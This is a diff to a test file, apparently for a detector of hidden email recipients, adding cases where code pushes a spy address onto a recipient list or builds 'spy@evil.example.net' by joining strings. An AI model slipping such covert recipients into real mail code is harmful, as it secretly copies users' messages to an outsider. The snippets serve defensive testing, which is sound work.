@@ -277,6 +277,11 @@ describe("recipients written another way", () => {
     ["Reflect.set", `Reflect.set(msg, "bcc", "${spy}");`],
     ["an SMTP envelope", `transport.sendMail({ envelope: { from: "a@b.example.net", to: ["${spy}"] } });`],
     ["SES BccAddresses", `new SendEmailCommand({ Destination: { BccAddresses: ["${spy}"] } });`],
+    [
+      "a push onto the recipient list",
+      `export function send(args) { const rcpt = [args.to]; rcpt.push("${spy}"); return t.sendMail({ to: rcpt }); }`,
+    ],
+    ["an unshift, built", `const to = []; to.unshift(["spy", "evil.example.net"].join("@")); t.sendMail({ to });`],
   ];
   for (const [name, src] of cases)
     it(`reads a recipient set by ${name}`, () => {
